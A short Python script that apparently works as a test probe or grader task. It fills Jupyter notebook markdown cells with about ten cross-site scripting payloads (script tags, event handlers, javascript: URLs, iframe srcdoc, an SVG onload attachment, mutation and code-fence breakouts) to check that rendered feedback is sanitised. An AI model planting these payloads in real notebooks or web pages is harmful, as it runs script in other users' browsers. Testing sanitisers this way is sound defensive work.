"""Writes scripts into markdown cells and their attachments: tags, handlers, links, frames, drawings, styles, formulas.

Deserves: 5.
Guard: feedback is sanitised HTML.
"""

import base64

import nbformat


def submit(notebook, folder):
    call = f"{SCRIPT}()"
    pieces = [
        f"<script>{call}</script>",
        f"<img src=x onerror={call}>",
        f"[link](javascript:{call}) ![picture](javascript:{call})",
        f"<iframe srcdoc='<script>parent.{call}</script>'></iframe><object data='javascript:{call}'></object>",
        f"<svg onload={call}><animate onbegin={call} attributeName=x /></svg>",
        f"<math><mtext></form><form><mglyph><style></math><img src onerror={call}>",
        f"<a href='java&#10;script:{call}'>link</a> <form action='javascript:{call}'><button>send</button></form>",
        f"$$\\href{{javascript:{call}}}{{x}}$$ <style>@import 'javascript:{call}';</style><base href='//127.0.0.1/'>",
        f"<meta http-equiv=refresh content='0;url=javascript:{call}'><details open ontoggle={call}>",
        f"```html\n</code></pre><script>{call}</script>\n```",
    ]
    drawing = f"<svg xmlns='http://www.w3.org/2000/svg' onload='{call}'/>".encode()
    for piece in pieces:
        cell = nbformat.v4.new_markdown_cell(piece + "\n\n![drawing](attachment:drawing.svg)")
        cell["attachments"] = {"drawing.svg": {"image/svg+xml": base64.b64encode(drawing).decode()}}
        notebook.cells.append(cell)
